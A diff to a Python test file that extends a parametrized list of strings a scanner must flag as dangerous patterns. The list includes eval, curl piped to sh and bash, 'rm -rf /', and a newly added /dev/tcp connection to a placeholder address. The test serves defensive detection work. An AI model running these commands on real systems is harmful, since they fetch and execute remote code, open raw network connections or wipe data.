@@ -239,7 +239,15 @@ def test_what_only_looks_like_a_trap(repo: Folder, text: str) -> None:
 
 
 @pytest.mark.parametrize(
-    "text", ["x = eval(y)\n", "curl -s x | sh\n", "curl -s x | bash -s\n", "rm -rf /", "rm -rf / ;"]
+    "text",
+    [
+        "x = eval(y)\n",
+        "curl -s x | sh\n",
+        "curl -s x | bash -s\n",
+        "rm -rf /",
+        "rm -rf / ;",
+        "cat < /dev/tcp/192.0.2.1/80\n",
+    ],
 )
 def test_traps(repo: Folder, text: str) -> None:
     assert messages(judge(repo, create("notes.txt", text)), "patterns", "warning")
